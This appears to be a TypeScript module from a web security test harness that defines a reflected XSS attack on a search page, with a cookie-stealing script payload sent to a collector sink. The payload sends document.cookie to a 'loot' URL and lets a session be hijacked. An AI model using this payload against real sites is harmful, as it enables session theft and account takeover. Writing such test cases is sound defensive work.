import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Steals a cookie with a script in a link to the search. */
export const xssSearchScript: Attack = defineAttack({
  id: 'xss-search-script',
  class: 'xss',
  title: 'Steals a cookie with a script in a link to the search',
  cwe: 79,
  capec: 591,
  technique: 'T1539',
  preconditions: ['somebody who is logged in follows a link'],

  steps: async ({ victim, sink }) => {
    const script = `<script>new Image().src="${sink.url('loot?c=')}"+encodeURIComponent(document.cookie)</script>`
    await (await victim('anna')).open(`/search${query({ q: script })}`)
  },
  oracle: (_nothing, { sink }) => sink.hits().some((hit) => hit.path.includes('sid%3D')),
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'script for <3 campfire stories' })}`),
})
